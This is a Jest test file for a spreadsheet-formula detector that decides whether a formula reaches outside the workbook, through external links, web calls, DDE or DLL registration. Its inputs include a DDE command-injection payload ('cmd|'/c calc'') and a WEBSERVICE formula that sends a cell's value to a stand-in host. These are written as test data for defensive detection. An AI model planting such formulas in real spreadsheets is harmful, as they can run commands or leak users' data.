import { reachesOutside } from '../../../src/core/formula/reachesOutside';

describe('a formula that reaches outside', () => {
  it.each([
    '=[1]Inputs!A1',
    "='[Q3 plan.xlsx]Inputs'!$B$2*2",
    "='C:\\models\\[Q3.xlsx]Inputs'!B2",
    "='https://example.com/[Q3.xlsx]Inputs'!B2",
    '=SUM([2]Data!A1:A9)',
    '=[1]!Rate',
    '=Q3.xlsx!Rate',
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("https://example.com?a="&B2)',
    '=IF(A1,_xlfn.WEBSERVICE(B1),0)',
    '=_xlfn.IMAGE("https://example.com/a.png")',
    '=RTD("prog",,"topic")',
    '=CUBEVALUE("Conn","[Measures].[Sales]")',
    '=sum(1, webservice (A1))',
    '=HYPERLINK(A1)',
    '=HYPERLINK("https://example.com/#x")',
    '=HYPERLINK("#Sheet1!A1")&HYPERLINK(B1)',
    '=REGISTER.ID("kernel32","X")',
  ])('is %s', (formula) => expect(reachesOutside(formula)).toBe(true));

  it.each([
    '=A1+B2',
    '=SUM(Sales[Qty])',
    '=SUM(Sales[[#This Row],[Qty]]*Sales[@Price])',
    '=SUM(Sales[a]:Sales[b])',
    '=[@Qty]*[@Price]',
    '=Sales[Qty]%',
    "='P|L'!A1",
    "='It''s'!A1&\"[1]Inputs!A1\"",
    '="see \'C:\\x\\[Book.xlsx]S\'!A1"',
    '="WEBSERVICE("',
    '=HYPERLINK("#Sheet1!A1","Top")',
    '=IF(A1,hyperlink( "#"&B1),0)',
    '=MYWEBSERVICE(A1)',
    '=Image_rate*2',
    "='WEBSERVICE('!A1",
  ])('is not %s', (formula) => expect(reachesOutside(formula)).toBe(false));
});
